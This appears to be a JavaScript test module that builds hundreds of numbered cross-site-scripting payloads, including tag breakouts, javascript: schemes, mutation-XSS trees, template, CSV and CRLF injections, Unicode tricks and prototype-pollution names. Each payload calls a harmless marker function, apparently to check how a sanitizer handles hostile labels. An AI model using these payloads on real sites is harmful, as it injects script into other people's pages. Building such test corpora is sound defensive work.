// SPDX-License-Identifier: Apache-2.0
//
// Text that would like to be more than text: markup, addresses and half sentences that end in a call
// of tmXss(n), each with a number of its own, so that a page that runs one says which. They are made
// by combining what breaks out of a context with what runs in the next one. All are valid UTF-8
// without control characters, which is what labels may hold, and short, so that they fit into a tag;
// what cannot be stored at all is in `raw`.

const calls = [
  (n) => `tmXss(${n})`,
  (n) => `top.tmXss(${n})`,
  (n) => `self['tmXss'](${n})`,
  (n) => `alert(${n})`,
  (n) => `tmXss\`${n}\``,
];

// What runs when it is read as HTML.
const elements = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT >`,
  (js) => `<script/x>${js}//`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<IMG SRC="x" OnErRoR="${js}">`,
  (js) => `<img/src/onerror=${js}//`,
  (js) => `<image href=x onerror=${js}>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg/onload=${js}//`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><set onbegin=${js} attributeName=x>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject>`,
  (js) => `<math href="javascript:${js}">x</math>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe srcdoc="<img src=x onerror=parent.${js}>">`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}>`,
  (js) => `<b style="animation:x" onanimationstart=${js}>x</b>`,
  (js) => `<style onload=${js}></style>`,
  (js) => `<link rel=stylesheet href=x onerror=${js}>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<marquee onstart=${js}>x`,
  (js) => `<xss onpointerenter=${js} style=position:fixed;inset:0>`,
];

// What ends the place where text was meant to stand.
const breakouts = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '\\">',
  '&quot;>',
  '"/><',
];

// Out of one attribute into another.
const attributes = [
  (js) => `" onmouseover="${js}`,
  (js) => `' onfocus='${js}' autofocus x='`,
  (js) => `x onerror=${js} y=`,
  (js) => `\` onload=${js} \``,
  (js) => `"autofocus onfocus=${js}//`,
  (js) => `" style="background:url(javascript:${js})" x="`,
  (js) => `&#34; onload=&#34;${js}`,
];

// Addresses that run.
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java&Tab;script:',
  'javascript&colon;',
  '&#106;avascript:',
  'javascript://x/%0a',
  'javascript://x/%E2%80%A8',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  'feed:javascript:',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg onload=',
  'blob:javascript:',
  'ｊavascript:',
  '\ufeffjavascript:',
  '\u00a0javascript:',
];

// Trees that change shape when they are read again.
const mutations = [
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) => `<math><mi><table><mi><style><!--</style><img src=x onerror=${js}>-->`,
  (js) => `<form><math><mtext></form><form><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<select><style></select><img src=x onerror=${js}>`,
  (js) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  (js) => `<xmp></xmp><img src=x onerror=${js}>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<![CDATA[<img src=x onerror=${js}>]]>`,
  (js) => `<?xml ?><svg onload=${js}/>`,
  (js) => `<textarea><img title="</textarea><img src=x onerror=${js}>">`,
];

// Languages of templates, charts, tables and programs.
const languages = [
  (js) => `{{${js}}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `#{${js}}`,
  (js) => `{a|<img src=x onerror=${js}>}`,
  (js) => `{b}<br/>{c} <svg onload=${js}>`,
  (js) => `%s%n{value}<img src=x onerror=${js}>`,
  (js) => `=HYPERLINK("javascript:${js}")`,
  (js) => `@SUM(1)|cmd' ${js}`,
  (js) => `+1,"${js}","<b>`,
  (js) => `","x":"<svg onload=${js}>","y":"`,
  (js) => `"}]};${js};//`,
  (js) => `';${js};//`,
  (js) => `\\u003cimg src=x onerror=${js}\\u003e`,
  (js) => `\\x3csvg onload=${js}\\x3e`,
  (js) => `%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>${js}</script>`,
  (js) => `expression(${js})`,
  (js) => `;}*{background:url("javascript:${js}")}`,
];

// Letters that some reader takes for others, or that change how the rest is read.
const letters = [
  (js) => `＜img src=x onerror=${js}＞`,
  (js) => `%3Cimg src=x onerror=${js}%3E`,
  (js) => `%c0%bcimg src=x onerror=${js}>`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `&#x3c;svg onload=${js}>`,
  (js) => `\u202e<svg onload=${js}>\u202c`,
  (js) => `\ufeff<svg onload=${js}>`,
  (js) => `<svg\u3000onload=${js}>`,
  (js) => `<s\u200bvg onload=${js}>`,
  (js) => `\u2028${js}\u2029`,
  (js) => `\ufffd<svg onload=${js}>\ufffe`,
  (js) => `ſcript<svg onload=${js}>`,
  (js) => `👩‍💻<img src=x onerror=${js}>`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
];

// Names that every object has already.
export const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__proto__.x',
  'constructor.prototype',
  'isPrototypeOf',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  '.',
  '..',
  'then',
  'key',
  'ref',
  'dangerouslySetInnerHTML',
];

const longest = 100; // bytes: a tag's

function* combined() {
  for (const element of elements) for (const out of breakouts) yield (js) => out + element(js);
  for (const scheme of schemes)
    for (const out of ['', '"', '[x](']) yield (js) => out + scheme + js;
  for (const make of [...attributes, ...mutations, ...languages, ...letters])
    for (const out of ['', '">', "'", '</title>', '<b>']) yield (js) => out + make(js);
}

/** Distinct payloads; number n calls tmXss(n), if anything does. Names come last and call nothing. */
export function payloads() {
  const out = new Set();
  const makes = [...combined()];
  // Each with one way to call, and a third of them with another.
  for (const [every, turn] of [
    [1, 0],
    [3, 1],
  ])
    for (let at = 0; at < makes.length; at += every) {
      const text = makes[at](calls[(at + turn) % calls.length](out.size)).trim();
      if (Buffer.byteLength(text) <= longest) out.add(text);
    }
  for (const name of names) out.add(name);
  return [...out];
}

/** Bytes that are no text: for header fields, where anything may come. */
export const raw = [
  Buffer.from('\xc0\xbcscript\xc0\xbetmXss(-1)', 'latin1'), // overlong
  Buffer.from('\xed\xa0\x80<svg onload=tmXss(-2)>', 'latin1'), // half a pair
  Buffer.from('\xff\xfe<\x00s\x00v\x00g\x00', 'latin1'),
  Buffer.from('\x1b[2J<img src=x onerror=tmXss(-4)>\x7f', 'latin1'),
  Buffer.from('<s\x00cript>tmXss(-5)</script>', 'latin1'),
];
